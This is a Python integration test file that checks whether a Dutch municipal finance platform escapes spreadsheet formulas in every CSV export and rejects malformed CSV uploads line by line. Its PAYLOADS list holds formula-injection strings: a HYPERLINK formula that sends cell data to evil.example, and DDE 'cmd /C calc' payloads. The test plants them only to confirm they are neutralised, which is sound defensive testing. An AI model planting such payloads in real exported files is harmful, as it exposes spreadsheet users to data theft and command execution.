"""Every file a spreadsheet opens is safe to open (attack round 3, item 1): text that a partner or staff wrote — an
application's partner, a savings line's name, an ambition's name — comes out of every CSV route with a leading `'`
where it starts with a formula character (OWASP's rule), while numbers stay numbers.

The routes are found in the merged OpenAPI (every operation that can answer `text/csv`); a new CSV route that this
test does not know fails it until it is added here, with a value planted in the text it can reach."""

from __future__ import annotations

import csv
import io
import re
import uuid
from pathlib import Path

import httpx
from stuurcyclus_common.tabular import FORMULA_START, csv_text, safe_cell

from .support import RunningPlatform, auth_headers, eventually, unique_tenant
from .test_betalingen import JAAR, SUBSIDIEJAAR, _applications, _client, _ledger, _ok

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Subsidie")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=2+5*cmd|' /C calc'!A0",
]
NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)*$")


def test_the_cell_rule() -> None:
    for payload in [*PAYLOADS, "\tx", "\rx"]:
        assert safe_cell(payload) == "'" + payload
    assert safe_cell("-12,50") == "-12,50" and safe_cell("+31") == "+31" and safe_cell(-5) == -5
    assert safe_cell("Gewoon een naam") == "Gewoon een naam" and safe_cell(None) == ""
    written = csv_text([["naam", "bedrag"], [PAYLOADS[0], "-1,00"]])
    assert list(csv.reader(io.StringIO(written), delimiter=";"))[1] == ["'" + PAYLOADS[0], "-1,00"]


def test_no_module_writes_csv_but_the_one_writer() -> None:
    root = Path(__file__).resolve().parents[1]
    for path in [*root.glob("services/*/src/**/*.py"), *root.glob("gateway/src/**/*.py"), *root.glob("libs/**/*.py")]:
        if path.name == "tabular.py":
            continue
        text = path.read_text(encoding="utf-8")
        assert "csv.writer" not in text and "csv.DictWriter" not in text, f"{path}: write CSV with tabular.csv_text"


def _csv_routes(document: dict) -> set[str]:
    found = set()
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            if method != "get" or not isinstance(operation, dict):
                continue
            answers = operation.get("responses", {}).get("200", {}).get("content", {})
            if any(kind.startswith("text/csv") for kind in answers):
                found.add(path)
    return found


async def test_every_csv_route_neutralises_formulas(platform: RunningPlatform) -> None:
    tenant = unique_tenant()
    async with _client(platform, auth_headers(platform, tenant)) as api:
        document = (await api.get(f"{platform.gateway}/api/v1/openapi.json")).json()
        # Text people write, planted where each CSV route can reach it.
        apps = await _applications(platform, api, tenant, dict.fromkeys(PAYLOADS[:4], 1_000_000), {})
        for aanvraag in apps.values():
            _ok(await api.post(f"/gesprekstafels/aanvragen/{aanvraag['id']}/toekenning", json={}), 201)
        # The payment file: the partners' accounts (their names planted), one authorised advance each.
        accounts = [("gemeente", "NL84BNGH0285010547")] + [(p, "NL20INGB0001234567") for p in PAYLOADS[:4]]
        for houder, iban in accounts:
            account = {"houder": houder, "iban": iban, "tenaamstelling": houder[:70]}
            _ok(await api.post("/gesprekstafels/rekeningen", json=account), 201)
        for aanvraag in apps.values():
            advance = (await _ledger(api, aanvraag["id"]))[0]
            _ok(await api.post(f"/gesprekstafels/betalingen/{advance['id']}/stappen", json={"status": "geautoriseerd"}))
        line = {"code": "99", "naam": PAYLOADS[4], "spoorNummer": 3, "doelen": {"2021": 1_000_000}}
        _ok(await api.post("/financien/besparingslijnen", json=line), 201)

        routes = {
            "/financien/rapportages/totaalopgave": "/financien/rapportages/totaalopgave?formaat=csv",
            "/financien/rapportages/doel-realisatie": "/financien/rapportages/doel-realisatie?formaat=csv",
            "/financien/iv3/{jaar}/sporen": "/financien/iv3/2024/sporen?formaat=csv",
            "/financien/subsidieplafonds": "/financien/subsidieplafonds?formaat=csv",
            "/gesprekstafels/open-data/360giving": "/gesprekstafels/open-data/360giving?formaat=csv",
            "/gesprekstafels/sisa": f"/gesprekstafels/sisa?formaat=csv&jaar={SUBSIDIEJAAR}",
            "/gesprekstafels/betalingen/betaalbestand": "/gesprekstafels/betalingen/betaalbestand?formaat=csv",
        }
        served = {path.removeprefix("/api/v1") for path in _csv_routes(document)}
        assert served == set(routes), f"CSV routes this test does not cover: {served ^ set(routes)}"

        async def granted() -> str | None:
            text = (await api.get(routes["/gesprekstafels/open-data/360giving"])).text
            return text if text.count("\r\n") >= 5 else None

        await eventually(granted, timeout=30)
        planted = set()
        for path, url in routes.items():
            answer = await api.get(url)
            assert answer.status_code == 200, (url, answer.text[:300])
            assert answer.headers["content-type"].startswith("text/csv"), url
            delimiter = "," if "360giving" in url else ";"
            for row in csv.reader(io.StringIO(answer.text), delimiter=delimiter):
                for cell in row:
                    assert not cell.startswith(FORMULA_START) or NUMBER.match(cell), (path, cell)
                    planted |= {p for p in PAYLOADS if cell == "'" + p}
        # A bank run line whose reference is longer than the ledger takes: refused on its line, never a 500.
        betaling = (await _ledger(api, next(iter(apps.values()))["id"]))[0]
        euros = f"{betaling['bedragCent'] // 100},{betaling['bedragCent'] % 100:02d}"
        run = f"betalingId;status;bedrag;kenmerk\r\n{betaling['id']};verzonden;{euros};{'K' * 101}\r\n"
        refused = await api.post(
            "/gesprekstafels/betalingen/bankrun", content=run.encode(), headers={"Content-Type": "text/csv"}
        )
        assert refused.status_code == 422, refused.text
        assert [p["name"] for p in refused.json()["invalidParams"]] == ["regels[2].kenmerk"], refused.text
    assert planted == set(PAYLOADS), f"planted values not found neutralised: {set(PAYLOADS) - planted}"
    assert JAAR  # the call's year the helper used


#: The header of each route that takes a CSV upload, as its users' files have it.
UPLOAD_HEADERS = {
    "/indicatoren/metingen/bulk": "indicator;periode;gebied;waarde",
    "/indicatoren/catalogus": "select,Onderwerpcode,Naam,Eenheid,Bron,Datatype,Periodetype,Aggregatie-onderwerp",
    "/indicatoren/gebieden": "code;naam;soort",
    "/gesprekstafels/betalingen/bankrun": "betalingId;status;bedrag;datum;kenmerk",
    "/gesprekstafels/subsidieregister": "DOSSIERNUMMER;AANVRAGER;REGELINGNAAM;BEDRAG_VERLEEND;SUBSIDIEJAAR",
}


def _upload_routes(document: dict) -> set[str]:
    found = set()
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            content = operation.get("requestBody", {}).get("content", {}) if isinstance(operation, dict) else {}
            if method in ("post", "put") and any(kind.startswith("text/csv") for kind in content):
                found.add(path.removeprefix("/api/v1"))
    return found


def _files(header: str) -> list[str]:
    sep = ";" if header.count(";") > header.count(",") else ","
    width = header.count(sep) + 1
    long_cell = "x" * 5000
    return [
        header + "\r\n" + sep.join([long_cell] * width) + "\r\n",  # over-long in every column
        header + "\r\n" + sep.join([""] * width) + "\r\n" + sep.join(["1"] * width) + "\r\n",  # empty, then numbers
        header + "\r\n" + sep.join(["€ abc", "3000-99", "GM99999", "=1+1", "-", "\t", "@", "1e309"][:width]) + "\r\n",
        header + f"{sep}extra{sep}meer\r\n" + sep.join(["a"] * (width + 2)) + "\r\n",  # extra columns
        header + "\r\n" + sep.join([str(uuid.uuid4()), "verzonden", "1.000,00", "31-12-2030", "K" * 101][:width]),
    ]


async def test_every_upload_refuses_per_line_never_a_500(platform: RunningPlatform) -> None:
    tenant = unique_tenant()
    async with httpx.AsyncClient(
        base_url=f"{platform.gateway}/api/v1", headers=auth_headers(platform, tenant), timeout=60
    ) as api:
        document = (await api.get("/openapi.json")).json()
        routes = _upload_routes(document)
        assert routes == set(UPLOAD_HEADERS), f"upload routes this test does not cover: {routes ^ set(UPLOAD_HEADERS)}"
        for path, header in UPLOAD_HEADERS.items():
            for text in _files(header):
                params = {"jaar": 2024} if path == "/indicatoren/gebieden" else {}
                answer = await api.post(
                    path, content=text.encode(), params=params, headers={"Content-Type": "text/csv"}
                )
                assert answer.status_code < 500, (path, text[:80], answer.text[:300])
                if answer.status_code >= 400:
                    problem = answer.json()
                    names = [p["name"] for p in problem.get("invalidParams", [])] or [problem.get("detail", "")]
                    assert problem.get("correlationId"), (path, problem)
                    assert any(re.search(r"\d|header|body|regels", n) for n in names), (path, names)
